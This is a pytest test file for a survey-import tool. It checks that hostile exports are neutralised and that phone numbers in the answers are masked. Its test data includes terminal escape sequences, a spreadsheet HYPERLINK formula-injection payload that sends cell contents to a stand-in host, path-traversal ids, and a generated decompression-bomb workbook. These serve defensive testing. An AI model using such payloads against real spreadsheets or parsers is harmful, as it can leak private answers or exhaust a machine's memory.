"""``fetch`` against hostile respondents and hostile files: nothing told, run, or blown up."""

from __future__ import annotations

import io
import os
import random
import zipfile
from pathlib import Path

import pytest

from noticeboard.commands.fetch_words import told
from noticeboard.errors import DataProblems, UsageError
from noticeboard.load import load
from noticeboard.project import Project
from noticeboard.survey import biff
from noticeboard.survey.answers import judge
from noticeboard.survey.cells import MAX_TEXT, TENCENT, reader
from noticeboard.survey.contents import HIDDEN, masked
from noticeboard.survey.snapshot import SourceFormatError
from noticeboard.survey.sources import csv_file, wjx
from noticeboard.survey.tally_file import tally_of, to_bytes
from noticeboard.survey.workbooks import sheets_of
from tests.conftest import DAY
from tests.exports import SAYS, WJX_TEXT, csv_bytes, spec, survey, xlsx_bytes
from tests.test_fetch import META, TITLES, answer, export, one, rows_of, town

__all__ = ["town"]
ESCAPE = "\x1b]0;here\x07"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def imports(project: Project) -> Path:
    return project.private / "imports" / "needs" / "wjx"


def kept_of(project: Project) -> str:
    path = project.private / "answers" / "needs" / "wjx.csv"
    return path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "name",
    [
        f"{ESCAPE}13800012345.csv",
        os.fsdecode("问卷.csv".encode("gbk")),
        "\u202evsc.csv",
        "a\nb.csv",
    ],
)
def test_names_of_files_are_told_so_that_a_terminal_obeys_nothing(town: Project, name: str) -> None:
    """A name in GBK, out of a zip, ended the run with a traceback; escapes reached the terminal."""
    imports(town).mkdir(parents=True)
    (imports(town) / name).write_bytes(b"x\n")
    said = told(one(town))
    assert all(letter.isprintable() or letter == "\n" for letter in said)
    assert said.encode()
    assert "13800012345" not in said
    assert len(said.splitlines()) == 3


def test_titles_are_told_without_telephones_and_escapes(town: Project) -> None:
    """Whoever edits a form puts notes into its header; what is not read is named by its title."""
    path = export(town, rows_of(30))
    text = path.read_text(encoding="utf-8-sig")
    title = f"{ESCAPE}问张三13800012345李四"
    path.write_text(text.replace("来自IP", title, 1), encoding="utf-8")
    said = told(one(town))
    assert f"问张三{HIDDEN}李四" in said
    assert "\x1b" not in said
    assert "13800012345" not in said


def test_names_of_sheets_are_told_alike() -> None:
    body = xlsx_bytes([["x"]], name="张 13800012345")
    with pytest.raises(SourceFormatError) as caught:
        csv_file.read(survey(), spec("csv"), "x", body)
    assert "13800012345" not in str(caught.value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t=", "＝"])
def test_words_are_no_formula(town: Project, start: str) -> None:
    """People here open the private file in WPS: an answer may not send it the others' answers."""
    words = f'{start}HYPERLINK("http://a.example/?"&A1)'
    export(town, [*rows_of(30), answer(31, random.Random(1), words=words)])
    one(town)
    assert "'" + words.strip()[:5] in kept_of(town).replace('"', "")


def test_words_are_nothing_that_a_terminal_obeys(town: Project) -> None:
    words = f"路灯{ESCAPE}\u202e坏了\x9b2J"
    export(town, [*rows_of(30), answer(31, random.Random(1), words=words)])
    one(town)
    kept = kept_of(town)
    assert "路灯 ]0;here 坏了 2J" in kept
    assert all(letter.isprintable() or letter in "\n" for letter in kept)


def test_what_was_blacked_out_cannot_be_found_from_its_digest() -> None:
    """There are only ten thousand million telephones: without the key all can be tried."""
    rows = [list(row) for row in WJX_TEXT]
    asked = survey()
    read = wjx.read(asked, spec("wjx"), "x", csv_bytes(rows))
    first, second = (judge(asked, spec("wjx"), read.answers, bytes([n] * 32), DAY) for n in (1, 2))
    assert [one.digest for one in first] != [one.digest for one in second]
    assert sorted(one.words for one in first) == sorted(one.words for one in second)


@pytest.mark.parametrize("key", [b"", b"x" * 100])
def test_a_broken_key_is_not_used(town: Project, key: bytes) -> None:
    """An empty one would make ids that anybody can make, and all answers new."""
    export(town, rows_of(30))
    one(town)
    (town.private / "key").write_bytes(key)
    with pytest.raises(UsageError, match="坏了"):
        one(town)


def test_a_file_that_cannot_be_read_is_said(town: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    export(town, rows_of(30))

    def refuse(self: Path) -> bytes:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "read_bytes", refuse)
    monkeypatch.setattr("noticeboard.commands.fetch.answers_key", lambda _: b"k" * 32)
    assert "打不开" in told(one(town))


def test_a_file_that_is_too_large_is_not_taken_in(
    town: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    export(town, rows_of(30))
    monkeypatch.setattr("noticeboard.survey.encodings.MAX_BYTES", 100)
    assert "超过" in told(one(town))


def test_links_are_not_followed(town: Project) -> None:
    path = export(town, rows_of(30))
    secret = path.rename(town.root / "secret.csv")
    (imports(town) / "z.csv").symlink_to(secret)
    assert "还没有导出的文件" in told(one(town))


def test_endless_words_are_no_answer() -> None:
    """In a workbook nothing limits a cell; telephones are looked for in every letter."""
    read = reader(SAYS, TENCENT)
    assert read("灯" * MAX_TEXT).state == "answered"
    assert read("灯" * (MAX_TEXT + 1)).state == "invalid"


def test_a_chain_of_sectors_that_goes_round_takes_no_memory(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Ten megabytes that say where the next sector is could ask for ten gigabytes."""
    taken = 0

    def sector(*_: object) -> bytes:
        nonlocal taken
        taken += 1
        return bytes(512)

    monkeypatch.setattr(biff, "_sector", sector)
    with pytest.raises(biff._Broken):
        biff._chain(bytes(512 * 10), 512, (0,) * 100_000, 0)
    assert taken < 20


def one_text_many_times(letters: int, cells: int) -> bytes:
    """Return a workbook of a few kilobytes, of which each cell is the same long text."""
    out = io.BytesIO()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    changes = {
        "[Content_Types].xml": (
            "</Types>",
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>',
        ),
        "xl/_rels/workbook.xml.rels": (
            "</Relationships>",
            f'<Relationship Id="r9" Type="{link}" Target="sharedStrings.xml"/></Relationships>',
        ),
    }
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes([["x"]]))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            text = old.read(name).decode().replace(*changes.get(name, ("", "")))
            if name == "xl/worksheets/sheet1.xml":
                rows = '<row><c t="s"><v>0</v></c></row>' * cells
                text = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
            if name != "xl/sharedStrings.xml":
                new.writestr(name, text)
        words = "a" * letters
        shared = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{words}</t></si></sst>'
        new.writestr("xl/sharedStrings.xml", shared)
    return out.getvalue()


def test_one_long_text_in_many_cells_is_refused() -> None:
    """The library writes a shared text out for each cell: 7 KB took 20 GB, and the process with them."""
    assert [row for sheet in sheets_of("x", one_text_many_times(1000, 50)) for row in sheet.rows]
    with pytest.raises(SourceFormatError, match="太长"):
        list(sheets_of("x", one_text_many_times(1_000_000, 20_000)))


CODES = ("null", "true", "no", "1e3", "0x1f", "2026-01-01", "1_000", "007", "constructor", "y", "0")


def test_codes_that_yaml_takes_for_something_else_come_back(town: Project) -> None:
    """A code is text, whatever it looks like; also when the tally is read again."""
    options = "".join(f'      - {{code: "{code}", label: 选{code}}}\n' for code in CODES)
    path = town.surveys / "needs.yaml"
    text = path.read_text(encoding="utf-8")
    last = "      - {code: a60, label: 60岁以上}\n"
    path.write_text(text.replace(last, last + options), encoding="utf-8")
    rows = rows_of(120)
    for number, row in enumerate(rows):
        row[len(META) + TITLES.index("6、您的年龄")] = f"选{CODES[number % len(CODES)]}"
    export(town, rows)
    (found,) = one(town).changes
    assert found.accepted == 120
    (document,) = load(town).tallies
    tally = tally_of(document.value)
    assert set(CODES) < set(tally.asked["age"])
    told_cells = tally.editions["2026Q3"].rows["age"][-1].cells
    assert set(told_cells) >= set(CODES)
    assert to_bytes(tally) == (town.tallies / "needs.yaml").read_bytes()
    assert not one(town).published


@pytest.mark.parametrize(
    "words",
    ["张三13800012345李四", "陆一13800012345", "三138 0001 2345三楼"],
)
def test_names_with_numerals_do_not_hide_a_telephone(words: str) -> None:
    """三, 四, 五 and 陆 are numerals and names: with them the telephone had too many digits."""
    (hidden,) = masked([words])
    assert HIDDEN in hidden
    assert "0001" not in hidden


def test_hostile_source_ids_do_not_reach_a_path(town: Project) -> None:
    path = town.surveys / "needs.yaml"
    text = path.read_text(encoding="utf-8")
    for name in ("../../data/x", "a\\nb", "a: b", "{x}"):
        path.write_text(text.replace("{id: wjx,", f'{{id: "{name}",'), encoding="utf-8")
        with pytest.raises(DataProblems):
            one(town)
